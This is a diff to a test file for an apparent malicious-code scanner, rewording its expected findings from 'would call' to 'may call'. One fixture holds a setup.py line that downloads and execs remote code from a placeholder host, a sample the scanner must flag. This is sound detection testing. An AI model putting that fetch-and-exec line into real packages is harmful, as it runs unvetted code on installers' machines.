@@ -22,7 +22,7 @@ def call(name: str, *arguments: Value, at_import: bool = True) -> SourceUse:
 def test_hit(name: str) -> None:
     finding = finding_of(RULE, call(name, text("x")))
     assert finding.severity is Severity.MEDIUM
-    assert finding.message.startswith(f"importing it would call {name}('x'), which ")
+    assert finding.message.startswith(f"importing it may call {name}('x'), which ")
 
 
 def test_hidden_code_is_worse_wherever_it_stands() -> None:
@@ -72,8 +72,8 @@ def test_the_whole_way() -> None:
     subject = judged(b"import urllib.request as r\nexec(r.urlopen('http://example.invalid').read())\n", "setup.py")
     assert subject.verdict is Verdict.FLAGGED
     assert {finding.message.split("(")[0] for finding in subject.findings} == {
-        "importing it would call builtins.exec",
-        "importing it would call urllib.request.urlopen",
+        "importing it may call builtins.exec",
+        "importing it may call urllib.request.urlopen",
     }
 
 
